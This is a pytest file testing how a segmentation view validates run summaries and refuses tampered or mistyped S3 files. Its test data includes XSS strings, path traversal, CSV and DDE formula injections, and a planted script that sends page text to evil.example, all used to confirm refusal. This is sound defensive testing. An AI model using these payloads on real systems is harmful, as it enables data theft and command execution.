"""Published runs as the Segmentation view reads them: validated summaries and bounded, typed file reads."""

from __future__ import annotations

import hashlib
import re
from datetime import UTC, datetime

import pytest

from include.segmentation_aws import published_runs
from include.segmentation_aws.published_runs import (
    NoLongerInS3,
    NotAsPublished,
    NotPublished,
    PublishedRun,
    TrainedNothing,
    open_segments,
    read_plot,
    read_report,
    run_summary,
    served_digests,
)
from tests.support.published_files import legacy_summary, publish_files, trained_run, unchanged_run

WHEN = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
RUN = {
    "run_id": "manual__2026-11-23T02:00:00+00:00",
    "rows": 3218,
    "n_components": 7,
    "params": {"k": 8},
    "explained_variance": 0.8017,
    "input": "s3://popseg/census/acs2015_county_data.csv",
    "input_is_bundled_sample": True,
}
TABLE = b"State-County,segment,distance,c_1\n" + b"".join(b"Texas-Travis %d,1,0.5,0.25\n" % i for i in range(50))
DIGEST = "0" * 64


def _results(bucket: str = "popseg-emulator-tests", prefix: str = "views/") -> str:
    return f"s3://{bucket}/{prefix}runs/{RUN['run_id']}/"


def _summary(bucket: str = "popseg-emulator-tests", prefix: str = "views/") -> dict:
    return run_summary(RUN, _results(bucket, prefix), {"report.html": DIGEST})


def _published(s3, bucket: str, files: dict[str, bytes]) -> PublishedRun:
    """A run that published `files` (their digests recorded)."""
    return PublishedRun.from_summary(publish_files(s3, RUN, _results(bucket), files), WHEN)


def _planted(s3, run: PublishedRun, name: str, data: bytes) -> None:
    """Replace a published file in S3, as whoever can write the results bucket can."""
    s3.put_object(Bucket=run.bucket, Key=run.prefix + name, Body=data)


def test_a_summary_gives_the_runs_figures_and_where_its_files_are() -> None:
    run = PublishedRun.from_summary(_summary("other-bucket", "teams/a/"), WHEN)
    assert (run.rows, run.n_components, run.k, run.explained_variance) == (3218, 7, 8, 0.8017)
    assert (run.bucket, run.prefix) == ("other-bucket", f"teams/a/runs/{RUN['run_id']}/")
    assert (run.input, run.input_is_bundled_sample) == ("s3://popseg/census/acs2015_county_data.csv", True)


def test_a_summary_published_before_inputs_were_recorded_still_lists() -> None:
    summary = {key: value for key, value in _summary().items() if not key.startswith("input")}
    run = PublishedRun.from_summary(summary, WHEN)
    assert (run.input, run.input_is_bundled_sample) == ("", False)


@pytest.mark.parametrize(
    ("field", "value", "named"),
    [
        ("n_components", "<script>alert(1)</script>", "n_components"),
        ("k", True, "k"),
        ("rows", -1, "rows"),
        ("explained_variance", "1; DROP", "explained_variance"),
        ("explained_variance", 1.5, "explained_variance"),
        ("run_id", "../../etc", "run_id"),
        ("run_id", "a<b", "run_id"),
        ("results", "s3://popseg-emulator-tests/views/runs/another-run/", "results"),
        ("results", "https://evil.example/runs/x/", "results"),
        ("sha256", "abc", "sha256"),
        ("input", "javascript:alert(1)", "input"),
        ("input", "s3://b/" + "k" * 2000, "input"),
        ("input_is_bundled_sample", "yes", "input_is_bundled_sample"),
        ("sha256", {"../../report.html": DIGEST}, "sha256"),
        ("sha256", {"report.html": "ABC"}, "sha256 of report.html"),
        ("sha256", {f"plots/p{i}.png": DIGEST for i in range(published_runs.MAX_DIGESTS + 1)}, "sha256"),
    ],
)
def test_a_summary_with_a_wrong_or_hostile_field_is_refused_naming_it(field, value, named) -> None:
    with pytest.raises(NotPublished, match=named):
        PublishedRun.from_summary({**_summary(), field: value}, WHEN)


def test_a_summary_carries_the_runs_state_and_its_churn_since_the_previous_run() -> None:
    document = trained_run(RUN, previous_run="scheduled__2026-11-22T02:00:00+00:00", churn=0.123)
    run = PublishedRun.from_summary(run_summary(document, _results(), {"report.html": DIGEST}), WHEN)
    assert (run.state, run.previous_run) == ("published", "scheduled__2026-11-22T02:00:00+00:00")
    assert (run.churn, run.adjusted_rand) == (0.123, 0.877)
    assert (run.unchanged_since, run.held_reason) == (None, None)


def test_a_summary_carries_the_runs_estimated_cost_and_what_has_no_price() -> None:
    estimate = {"total": None, "priced_total": 0.03, "no_price": ["the price table has no ml.m5.large in us-east-1"],
                "items": [{"usd": 0.03}, {"usd": None}]}  # fmt: skip
    run = PublishedRun.from_summary(run_summary({**RUN, "cost": estimate}, _results(), {}), WHEN)
    assert (run.cost_total, run.cost_priced) == (None, 0.03)
    assert (
        run.cost_text == "at least $0.0300, no price for 1 of 2 lines (the price table has no ml.m5.large in us-east-1)"
    )


def test_a_run_recorded_before_costs_were_estimated_has_none() -> None:
    run = PublishedRun.from_summary(run_summary(RUN, _results(), {}), WHEN)
    assert (run.cost_total, run.cost_priced, run.cost_text) == (None, None, None)


def test_a_first_run_has_no_previous_run_and_no_churn() -> None:
    run = PublishedRun.from_summary(run_summary(trained_run(RUN), _results(), {"report.html": DIGEST}), WHEN)
    assert (run.state, run.previous_run, run.churn, run.adjusted_rand) == ("published", None, None, None)


def test_a_held_run_carries_the_gates_refusal_and_still_serves_its_files() -> None:
    refusal = "churn 0.52 is above max_churn 0.40: re-run with a higher max_churn to accept it"
    document = trained_run(RUN, previous_run="manual__before", churn=0.52, refusal=refusal)
    run = PublishedRun.from_summary(run_summary(document, _results(), {"report.html": DIGEST}), WHEN)
    assert (run.state, run.held_reason, run.churn) == ("held", refusal, 0.52)
    assert run.sha256 == {"report.html": DIGEST}


def test_an_unchanged_run_has_the_figures_of_the_run_that_stands_and_no_file_of_its_own(s3, bucket) -> None:
    document = unchanged_run(RUN, "scheduled__2026-11-24T02:00:00+00:00", since=RUN["run_id"])
    results = f"s3://{bucket}/views/runs/scheduled__2026-11-24T02:00:00+00:00/"
    summary = run_summary(document, results, {"report.html": DIGEST})  # whatever is passed: it serves nothing
    assert (summary["sha256"], summary["report"]) == ({}, None)
    run = PublishedRun.from_summary(summary, WHEN)
    assert (run.state, run.unchanged_since, run.churn) == ("unchanged", RUN["run_id"], None)
    assert (run.rows, run.n_components, run.k, run.explained_variance) == (3218, 7, 8, 0.8017)
    s3.put_object(Bucket=bucket, Key=run.prefix + "report.html", Body=b"<h1>planted under its id</h1>")
    with pytest.raises(
        TrainedNothing, match=rf"unchanged since run {re.escape(RUN['run_id'])}, whose results still"
    ) as refused:
        read_report(s3, run)
    assert refused.value.since == RUN["run_id"]


def test_a_summary_recorded_before_states_is_a_published_run_without_churn() -> None:
    summary = run_summary(RUN, _results(), {"report.html": DIGEST})
    for key in ("state", "previous_run", "churn", "adjusted_rand", "unchanged_since", "held_reason"):
        del summary[key]
    run = PublishedRun.from_summary(summary, WHEN)
    assert (run.state, run.previous_run, run.churn, run.unchanged_since) == ("published", None, None, None)


def _unchanged_summary() -> dict:
    document = unchanged_run(RUN, "scheduled__2026-11-24T02:00:00+00:00", since=RUN["run_id"])
    return run_summary(document, "s3://popseg-emulator-tests/views/runs/scheduled__2026-11-24T02:00:00+00:00/", {})


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"state": "deleted"}, "state 'deleted' is not one of published, held, unchanged"),
        ({"state": ["published"]}, "state"),
        ({"churn": 1.5}, "churn 1.5 is not a number from 0 to 1"),
        ({"churn": -0.1}, "churn"),
        ({"churn": "12 %"}, "churn"),
        ({"churn": float("nan")}, "churn"),
        ({"churn": True}, "churn"),
        ({"adjusted_rand": 2}, "adjusted_rand 2 is not a number from -1 to 1"),
        ({"adjusted_rand": float("-inf")}, "adjusted_rand"),
        ({"previous_run": "../../etc"}, "previous_run '../../etc' is not an Airflow run id"),
        ({"previous_run": "<script>"}, "previous_run"),
        ({"held_reason": "x" * (published_runs.MAX_HELD_REASON + 1)}, "held_reason is not text of at most"),
        ({"held_reason": {"html": "<b>"}}, "held_reason"),
        ({"cost": "$1"}, "cost is not an object of total, priced_total and text"),
        (
            {"cost": {"total": -1.0, "priced_total": 0, "text": "$0"}},
            "cost total '-1.0' is not an amount of US dollars",
        ),
        ({"cost": {"total": None, "priced_total": True, "text": ""}}, "cost priced_total 'True' is not an amount"),
        ({"cost": {"total": 1, "text": "x" * (published_runs.MAX_COST_TEXT + 1)}}, "cost text is not text of at most"),
        (
            {"unchanged_since": "manual__before"},
            "unchanged_since 'manual__before' is set on a run in state 'published'",
        ),
    ],
)
def test_a_summary_with_a_wrong_state_or_churn_is_refused_naming_the_field(changes, named) -> None:
    with pytest.raises(NotPublished, match=re.escape(named)):
        PublishedRun.from_summary({**_summary(), **changes}, WHEN)


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"unchanged_since": None}, "unchanged_since is missing: an unchanged run names the run"),
        ({"unchanged_since": "<img src=x>"}, "unchanged_since '<img src=x>' is not an Airflow run id"),
        ({"unchanged_since": "scheduled__2026-11-24T02:00:00+00:00"}, "unchanged_since names the run itself"),
        ({"sha256": {"report.html": DIGEST}}, "sha256 is recorded for an unchanged run"),
    ],
)
def test_an_unchanged_summary_that_names_no_other_run_or_serves_files_is_refused(changes, named) -> None:
    with pytest.raises(NotPublished, match=re.escape(named)):
        PublishedRun.from_summary({**_unchanged_summary(), **changes}, WHEN)


def test_a_report_is_read_from_where_the_run_published_it(s3, bucket) -> None:
    run = _published(s3, bucket, {"report.html": b"<h1>the report</h1>"})
    assert read_report(s3, run) == b"<h1>the report</h1>"


def test_a_published_file_deleted_from_s3_is_no_longer_there_naming_where_it_was(s3, bucket) -> None:
    run = PublishedRun.from_summary(_summary(bucket, "nothing-here/"), WHEN)
    where = f"s3://{bucket}/nothing-here/runs/{RUN['run_id']}/report.html"
    message = f"report.html of run .* is no longer at {re.escape(where)}: S3 has no object there"
    with pytest.raises(NoLongerInS3, match=message) as gone:
        read_report(s3, run)
    assert gone.value.uri == where


def test_a_file_whose_bucket_is_gone_is_no_longer_there_saying_so(s3) -> None:
    run = PublishedRun.from_summary(_summary("popseg-deleted-bucket"), WHEN)
    with pytest.raises(NoLongerInS3, match="s3://popseg-deleted-bucket/views/runs/.*: its bucket no longer exists"):
        read_report(s3, run)


def test_a_report_changed_in_s3_after_publishing_is_refused_naming_both_digests(s3, bucket) -> None:
    run = _published(s3, bucket, {"report.html": b"<h1>the report</h1>"})
    planted = b"<script>top.location = 'https://evil.example/?' + document.body.innerText</script>"
    _planted(s3, run, "report.html", planted)
    recorded, actual = (hashlib.sha256(data).hexdigest()[:16] for data in (b"<h1>the report</h1>", planted))
    with pytest.raises(
        NotAsPublished,
        match=rf"report.html of run .* is not the file the run published: "
        rf"its sha256 is {actual}…, publish recorded {recorded}…",
    ):
        read_report(s3, run)


def test_a_run_published_before_digests_were_recorded_serves_nothing_and_says_to_re_run(s3, bucket) -> None:
    run = PublishedRun.from_summary(legacy_summary(RUN, _results(bucket)), WHEN)
    s3.put_object(Bucket=bucket, Key=run.prefix + "report.html", Body=b"<h1>an old report</h1>")
    assert run.sha256 == {}  # still listed: its summary is valid
    with pytest.raises(NotPublished, match="records none.*re-run it"):
        read_report(s3, run)


def test_a_file_the_run_recorded_no_digest_for_is_refused(s3, bucket) -> None:
    run = _published(s3, bucket, {"report.html": b"<h1>the report</h1>"})
    _planted(s3, run, "plots/added.png", published_runs.PNG_MAGIC + b"a plot the run never made")
    with pytest.raises(NotPublished, match="published no plots/added.png"):
        read_plot(s3, run, "added.png")


def test_a_plot_is_served_only_when_it_is_a_png_with_a_plot_name(s3, bucket) -> None:
    png = published_runs.PNG_MAGIC + b"rest of a png"
    run = _published(s3, bucket, {"plots/segment_sizes.png": png, "plots/fake.png": b"<svg onload=alert(1)>"})
    assert read_plot(s3, run, "segment_sizes.png") == png
    with pytest.raises(NotPublished, match="not a PNG"):
        read_plot(s3, run, "fake.png")
    for name in ("../report.html", "x.svg", "Upper.png", ".png"):
        with pytest.raises(NotPublished, match="not a plot name"):
            read_plot(s3, run, name)


def test_a_plot_changed_in_s3_after_publishing_is_refused(s3, bucket) -> None:
    run = _published(s3, bucket, {"plots/segment_sizes.png": published_runs.PNG_MAGIC + b"the plot"})
    _planted(s3, run, "plots/segment_sizes.png", published_runs.PNG_MAGIC + b"another picture")
    with pytest.raises(NotAsPublished, match="plots/segment_sizes.png of run .* is not the file the run published"):
        read_plot(s3, run, "segment_sizes.png")


def test_an_oversized_file_is_refused_without_reading_it_whole(s3, bucket, monkeypatch) -> None:
    monkeypatch.setattr(published_runs, "MAX_REPORT_BYTES", 1000)
    run = _published(s3, bucket, {"report.html": b"x" * 1001})
    with pytest.raises(NotPublished, match="above 1,000"):
        read_report(s3, run)


def test_segments_csv_streams_in_bounded_chunks_and_only_when_it_is_a_segments_table(s3, bucket, monkeypatch) -> None:
    monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
    run = _published(s3, bucket, {"segments.csv": TABLE})
    chunks = list(open_segments(s3, run))
    assert b"".join(chunks) == TABLE and max(map(len, chunks)) == 64
    run = _published(s3, bucket, {"segments.csv": b"<html><script>alert(1)</script>"})  # as if publish wrote it
    with pytest.raises(NotPublished, match="not a segments table"):
        open_segments(s3, run)


def test_segments_parquet_streams_only_when_it_is_a_parquet_file_and_no_other_name_streams(s3, bucket) -> None:
    parquet = b"PAR1" + bytes(range(256)) * 8 + b"PAR1"
    run = _published(s3, bucket, {"segments.parquet": parquet, "segments.csv": TABLE})
    assert b"".join(open_segments(s3, run, "segments.parquet")) == parquet
    run = _published(s3, bucket, {"segments.parquet": TABLE})  # a CSV under the Parquet name
    with pytest.raises(NotPublished, match="not a segments table"):
        open_segments(s3, run, "segments.parquet")
    with pytest.raises(NotPublished, match="'report.html' is not a table the view serves"):
        open_segments(s3, run, "report.html")


def test_a_segments_csv_changed_in_s3_after_publishing_is_refused_before_its_first_chunk(s3, bucket) -> None:
    run = _published(s3, bucket, {"segments.csv": TABLE})
    _planted(s3, run, "segments.csv", TABLE.replace(b"Texas-Travis 7,", b'=HYPERLINK("https://evil.example"),'))
    with pytest.raises(NotAsPublished, match="segments.csv of run .* is not the file the run published"):
        open_segments(s3, run)


def test_a_segments_csv_replaced_between_its_check_and_its_stream_is_refused(s3, bucket, monkeypatch) -> None:
    run = _published(s3, bucket, {"segments.csv": TABLE})
    get_object = s3.get_object

    def swapped_after_the_check(**request):
        if "IfMatch" in request:  # the second pass: the check has just read the published file
            _planted(s3, run, "segments.csv", TABLE + b"Texas-Planted,1,0.5,0.25\n")
        return get_object(**request)

    monkeypatch.setattr(s3, "get_object", swapped_after_the_check)
    with pytest.raises(NotAsPublished, match="segments.csv of run .* was replaced in S3 while it was being checked"):
        open_segments(s3, run)


class _Body:
    """A get_object body that records the size of every read."""

    def __init__(self, data: bytes, reads: list) -> None:
        self.data, self.reads = data, reads

    def read(self, size: int | None = None) -> bytes:
        self.reads.append(size)
        chunk, self.data = self.data[:size], self.data[size:]
        return chunk

    def close(self) -> None:
        pass


class _S3Answering:
    """An S3 client that answers each get_object with the next of `bodies`, whatever the request's conditions
    (as a store that ignored If-Match would)."""

    def __init__(self, *bodies: bytes) -> None:
        self.bodies, self.reads = list(bodies), []

    def get_object(self, **request) -> dict:
        data = self.bodies.pop(0)
        return {"Body": _Body(data, self.reads), "ContentLength": len(data), "ETag": '"etag"'}


def test_segments_csv_is_checked_and_streamed_in_reads_of_at_most_one_chunk(monkeypatch) -> None:
    monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
    run = PublishedRun.from_summary(
        run_summary(RUN, _results(), {"segments.csv": hashlib.sha256(TABLE).hexdigest()}), WHEN
    )
    s3 = _S3Answering(TABLE, TABLE)
    assert b"".join(open_segments(s3, run)) == TABLE
    assert s3.reads and all(size == 64 for size in s3.reads)  # never read() whole: memory bounded by the chunk


def test_a_segments_csv_swapped_under_the_stream_ends_before_its_last_chunk(monkeypatch) -> None:
    monkeypatch.setattr(published_runs, "SEGMENTS_CHUNK", 64)
    run = PublishedRun.from_summary(
        run_summary(RUN, _results(), {"segments.csv": hashlib.sha256(TABLE).hexdigest()}), WHEN
    )
    swapped = TABLE[:-10] + b"=cmd|' /C calc'!A0\n"
    received = []
    with pytest.raises(NotAsPublished, match="not the file the run published"):
        for chunk in open_segments(_S3Answering(TABLE, swapped), run):
            received.append(chunk)
    assert len(b"".join(received)) < len(swapped)  # the last chunk, and with it a whole download, never goes out


def test_publish_records_the_digest_of_each_file_the_view_serves_and_only_those(s3, bucket) -> None:
    files = {
        "report.html": b"<h1>the report</h1>",
        "segments.csv": TABLE,
        "plots/segment_sizes.png": published_runs.PNG_MAGIC + b"png",
        "run.json": b"{}",
        "centroids.csv": b"segment\n",
    }
    run = _published(s3, bucket, files)
    digests = served_digests(s3, run.bucket, {name: run.prefix + name for name in files})
    assert digests == {
        name: hashlib.sha256(files[name]).hexdigest()
        for name in ("plots/segment_sizes.png", "report.html", "segments.csv")
    }
